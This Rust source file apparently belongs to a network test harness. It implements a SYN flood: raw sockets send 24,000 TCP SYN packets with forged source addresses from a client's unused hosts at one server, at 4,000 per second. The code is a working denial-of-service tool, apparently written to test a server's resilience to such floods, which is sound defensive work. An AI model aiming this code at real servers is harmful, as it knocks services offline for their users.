//! SYNs with forged addresses: unused ones of a client's network (RFC 4987, section 2).

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use etherparse::PacketBuilder;
use socket2::{Domain, Protocol, Socket, Type};

use crate::common::world::{CLIENTS, Version, World, address, start};

/// IPPROTO_RAW: packets with their IP header (raw(7), and RFC 3542, section 3).
const RAW: i32 = 255;
/// The SYNs of a flood; it sends 4,000 per second in steps of [`TICK`].
const OPENINGS: u64 = 24_000;
const TICK: Duration = Duration::from_millis(10);
const EACH: u64 = 40;
/// The unused hosts of the client's network.
const HOSTS: std::ops::Range<u8> = 100..250;

/// A source of forged SYNs to one server.
#[derive(Debug)]
pub(crate) struct Flood {
    sent: Arc<AtomicU64>,
    over: Arc<AtomicBool>,
}

impl Flood {
    /// Starts it on the client's machine.
    pub(crate) fn start(world: &World, version: Version, server: SocketAddr) -> Flood {
        let flood = Flood { sent: Arc::default(), over: Arc::default() };
        let (sent, over) = (flood.sent.clone(), flood.over.clone());
        start(&world.client, move || {
            let domain = if server.is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
            let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(RAW))).unwrap();
            for number in 0..OPENINGS {
                let packet = opening(version, number, server);
                // The device may be full for a moment.
                let is_sent = socket.send_to(&packet, &SocketAddr::new(server.ip(), 0).into()).is_ok();
                sent.fetch_add(is_sent.into(), Ordering::Relaxed);
                if number % EACH == 0 {
                    thread::sleep(TICK);
                }
            }
            over.store(true, Ordering::Relaxed);
        });
        flood
    }

    /// Returns true when the last SYN has been sent.
    pub(crate) fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }

    /// Returns the number of SYNs that have left.
    pub(crate) fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

/// Returns a SYN with its own address and port.
fn opening(version: Version, number: u64, server: SocketAddr) -> Vec<u8> {
    let hosts = u64::from(HOSTS.end - HOSTS.start);
    let host = HOSTS.start + (number % hosts) as u8;
    let port = 10_000 + (number / hosts) as u16;
    let packet = match (address(version, CLIENTS, host), server.ip()) {
        (IpAddr::V4(from), IpAddr::V4(to)) => PacketBuilder::ipv4(from.octets(), to.octets(), 64),
        (IpAddr::V6(from), IpAddr::V6(to)) => PacketBuilder::ipv6(from.octets(), to.octets(), 64),
        _ => panic!("one packet has one version"),
    };
    let mut octets = Vec::new();
    packet.tcp(port, server.port(), number as u32, 64_240).syn().write(&mut octets, &[]).unwrap();
    octets
}
